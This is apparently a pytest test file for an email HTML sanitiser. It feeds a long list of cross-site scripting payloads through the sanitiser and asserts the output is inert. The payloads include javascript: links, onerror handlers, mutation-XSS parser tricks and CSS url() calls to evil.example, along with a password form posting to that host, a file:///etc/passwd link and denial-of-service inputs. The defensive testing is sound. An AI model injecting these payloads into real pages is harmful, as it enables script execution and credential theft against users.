"""Hostile HTML: whatever goes in, nothing active comes out."""

import contextlib
import gc
import re
import time
from collections.abc import Iterator
from pathlib import Path

import html5lib
import pytest
from bs4 import BeautifulSoup

from app.domain.content import EmailContent
from app.domain.errors import Invalid
from app.domain.rendered import Recipient
from app.rendering import prepare
from app.rendering.sanitise import TAGS, Removal, sanitise
from app.rendering.styles import StyleSanitiser

NOBODY = Recipient("nobody@example.org")
FRAME = {"html", "head", "body", "meta", "title"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src='javascript:alert(1)' alt=x>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4=' alt=x>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A;ava&Tab;script&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='v b\tscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='background:\\75rl(https://evil.example/t)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100%'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='color:red;background-image:image-set(\"https://evil.example/t\" 1x)'>x</p>",
    "<p style=\"font-family:'</style><script>alert(1)</script>'\">x</p>",
    '<p style="font-family:&quot;x&quot; onmouseover=&quot;alert(1)">x</p>',
    "<style>p{background:url(https://evil.example/t)} @import 'https://evil.example/x.css';</style><p>x</p>",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- unclosed <img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe><frameset onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x.swf><embed src=x.swf></object><applet code=x>",
    "<form action='https://evil.example'><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=stylesheet href='file:///etc/passwd'>",
    "<table background='javascript:alert(1)'><td background='https://evil.example/t'>x",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<b <script>alert(1)</script>0</b>",
    "<div><p><b></div><i onclick=alert(1)></p>x</b>",
    "<template><script>alert(1)</script></template>",
    "<p id=x name=y onfocus=alert(1) tabindex=1 autofocus contenteditable>x</p>",
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) <javascript:alert(1)>",
    '[x](https://example.org "onmouseover=alert(1)") [x]: data:text/html,x',
    '<a href="javascript{{ nothing | }}:alert(1)">x</a>',
    '<a href="{{ nothing | javascript:alert(1) }}">x</a>',
    "<{{ nothing | script }}>alert(1)</{{ nothing | script }}><p {{ nothing | onclick=alert(1) }}>x</p>",
    '<p style="color:{{ nothing | red;background:url(//evil.example) }}">x</p>',
    '<p style="width:{{ nothing | expression }}(alert(1))">x</p>',
    '<img src="{{ nothing | javascript:alert(1) }}" alt="{{ nothing | \'\\" onerror=alert(1) }}">',
]


def assert_inert(page: str) -> None:
    """The page, parsed as a browser does, holds allowed elements, no script attribute and only safe addresses."""
    for element in BeautifulSoup(page, "html5lib").find_all(True):
        assert element.name in TAGS | FRAME, page
        for name, value in element.attrs.items():
            assert not name.startswith("on"), page
            assert name not in ("srcdoc", "action", "formaction", "background", "data", "srcset"), page
            if name in ("href", "src"):
                assert re.match(r"(https?://|mailto:|tel:|cid:|#|$)", str(value)), page
            if name == "style":
                assert not re.search(r"url|expression|position|binding|behavior|image-set|import|[<>]", str(value)), (
                    page
                )
        if element.name == "meta":
            assert "http-equiv" not in element.attrs, page


@pytest.mark.parametrize("source", HOSTILE)
@pytest.mark.parametrize("written_as", ["html", "markdown"])
def test_nothing_active_survives(source: str, written_as: str) -> None:
    for body in (source, f"<p>before {source} after</p>", f"<html><body onload=alert(1) style='x:url(y)'>{source}"):
        email = prepare(EmailContent("s", "p", written_as, body)).render(NOBODY)
        assert_inert(email.html)


@pytest.mark.parametrize("source", HOSTILE)
def test_parsing_and_writing_the_result_again_changes_nothing_that_matters(source: str) -> None:
    first = prepare(EmailContent("s", "p", "html", source)).render(NOBODY).html
    again = html5lib.serialize(html5lib.parse(first), omit_optional_tags=False, quote_attr_values="always")
    assert_inert(again)


def test_hostile_subject_and_preheader_stay_text() -> None:
    hostile = "</title><script>alert(1)</script><img src=x onerror=alert(1)>"
    email = prepare(EmailContent(hostile, hostile, "markdown", "x")).render(NOBODY)
    assert_inert(email.html)
    assert email.subject == hostile


def is_no_slot(_address: str) -> bool:
    return False


def test_words_around_dropped_elements_stay_and_what_was_inside_goes() -> None:
    safe = sanitise("one <script>two</script> three <form><b>four</b><select><option>five</select></form>", is_no_slot)
    assert BeautifulSoup(safe.markup, "html5lib").get_text().split() == ["one", "three", "four"]


@pytest.mark.parametrize(
    ("source", "removal"),
    [
        ("<script>x</script>", Removal("element", "script")),
        ("<form>x</form>", Removal("element", "form")),
        ("<p onclick=x>x</p>", Removal("attribute", "onclick")),
        ("<a href='javascript:x'>x</a>", Removal("link", "javascript:x")),
        ("<a href='www.example.org'>x</a>", Removal("link", "www.example.org")),
        ("<img src='data:x'>", Removal("image", "data:x")),
        ("<p style='position:fixed'>x</p>", Removal("style", "position")),
        ("<style>@media print { p { color: red } }</style><p>x</p>", Removal("rule", "@media")),
        ("<link rel=stylesheet href=x.css><p>x</p>", Removal("element", "link")),
    ],
)
def test_what_was_left_out_is_reported(source: str, removal: Removal) -> None:
    assert removal in sanitise(source, is_no_slot).removals


def test_a_clean_newsletter_loses_nothing() -> None:
    source = (
        '<!doctype html><html lang="de" dir="ltr"><head><title>T</title><style>p { color: #333 } .b { padding: 4px }'
        '</style></head><body bgcolor="#fafafa" style="margin: 0"><table width="600" cellpadding="0" align="center">'
        '<tr><td class="b" valign="top"><p>Text &amp; more</p><img src="https://example.org/a.png" alt="A" width="20">'
        '<a href="mailto:a@example.org">m</a><a href="cid:x">c</a></td></tr></table></body></html>'
    )
    safe = sanitise(source, is_no_slot)
    assert safe.removals == (Removal("link", "cid:x"),)
    assert (safe.whole, safe.lang, safe.direction) == (True, "de", "ltr")
    assert safe.body_style == "background-color:#fafafa;margin:0"
    cell = BeautifulSoup(safe.markup, "html5lib").td
    assert cell is not None
    assert cell["style"] == "padding:4px"
    assert cell.p is not None
    assert cell.p["style"] == "color:#333"


def test_only_attributes_are_tidied_never_words() -> None:
    safe = sanitise('<p style="position:fixed">write &lt;p style=""&gt; here</p>', is_no_slot)
    assert safe.markup in ('<p>write &lt;p style=""&gt; here</p>', "<p>write &lt;p style=&quot;&quot;&gt; here</p>")


def test_no_file_of_this_machine_is_read_as_a_style_sheet(tmp_path: Path) -> None:
    sheet = tmp_path / "a.css"
    sheet.write_text("p { color: #123456 }")
    for address in (str(sheet), sheet.as_uri()):
        assert sanitise(f'<link rel="stylesheet" href="{address}"><p>x</p>', is_no_slot).markup == "<p>x</p>"


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color: RED; margin:0 auto !important", "color:RED;margin:0 auto !important"),
        ('font-family: "Open Sans", Arial', "font-family:'Open Sans', Arial"),
        ("font-family: &quot;Open Sans&quot;; color: red", "font-family:'Open Sans';color:red"),
        ("width: calc(100% - 20px)", "width:calc(100% - 20px)"),
        ("color: rgb(1, 2, 3); mso-line-height-rule: exactly", "color:rgb(1, 2, 3);mso-line-height-rule:exactly"),
        ("background: url(https://x.example)", ""),
        ("background: URL( 'x' )", ""),
        ("color: red; position: fixed; z-index: 9", "color:red"),
        ("color: red; }; p { color: blue", "color:red"),
        ("color: attr(x)", ""),
        ("font-family: 'a\\'b'", ""),
        ("color: \\22 x", ""),
        ("", ""),
        ("{{{", ""),
    ],
)
def test_styles_pass_an_allow_list(style: str, kept: str) -> None:
    assert StyleSanitiser(lambda _name: None).sanitize_css(style) == kept


@pytest.fixture
def fresh_heap() -> Iterator[None]:
    """What earlier tests left in this process is not looked through by the garbage collector while time is taken."""
    gc.collect()
    gc.freeze()
    yield
    gc.unfreeze()


@pytest.mark.usefixtures("fresh_heap")
@pytest.mark.parametrize("piece", ["<div>", "<b><p>", "<font>", "<table><tr><td>", "<ul><li>", "<a>"])
def test_elements_that_nest_without_end_are_refused_at_once(piece: str) -> None:
    started = time.perf_counter()
    with pytest.raises(Invalid) as refusal:
        prepare(EmailContent("s", "", "html", piece * (900_000 // len(piece))))
    assert time.perf_counter() - started < 2
    assert refusal.value.fields["body"] == ["Content nests more than 200 HTML elements. Close elements that are open."]


@pytest.mark.usefixtures("fresh_heap")
@pytest.mark.parametrize(
    "piece", ["> ", "- ", "[", "*", "**a ", "`", "<", "![", "_a_", "&", "((", "|a", "\n> > x", "[a](", "<a "]
)
def test_markdown_made_to_be_slow_still_ends(piece: str) -> None:
    started = time.perf_counter()
    content = EmailContent("s", "", "markdown", piece * (20_000 // len(piece)))
    with contextlib.suppress(Invalid):
        prepare(content)
    assert time.perf_counter() - started < 10


def test_ten_megabytes_are_refused_before_any_work() -> None:
    started = time.perf_counter()
    with pytest.raises(Invalid) as refusal:
        prepare(EmailContent("s", "", "html", "<p>x</p>\n\n" * 1_048_576))
    assert time.perf_counter() - started < 1
    assert "at most 1,000,000" in refusal.value.fields["body"][0]
